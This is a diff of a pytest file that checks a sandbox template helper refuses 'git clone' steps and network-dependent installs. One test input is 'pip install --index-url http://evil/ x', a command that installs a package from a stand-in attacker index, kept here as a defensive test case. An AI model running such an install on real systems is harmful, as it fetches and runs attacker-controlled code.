@@ -36,6 +36,11 @@ def test_apt_update_is_skipped_and_other_commands_run_as_written():
     assert _helper("pip install /opt/wheels/x-1.0-py3-none-any.whl", "step 1") is None  # a wheel in the image
 
 
+def test_a_git_clone_is_refused_with_what_to_do_instead():
+    with pytest.raises(E2BError, match="copy\\(\\) it into the template"):
+        _helper("git clone https://github.com/x/y.git /app", "step 3")
+
+
 @pytest.mark.parametrize("command", ["pip install .", "npm install", "pip install --index-url http://evil/ x"])
 def test_installs_that_need_a_network_or_a_project_are_refused(command):
     with pytest.raises(E2BError, match="named packages only"):
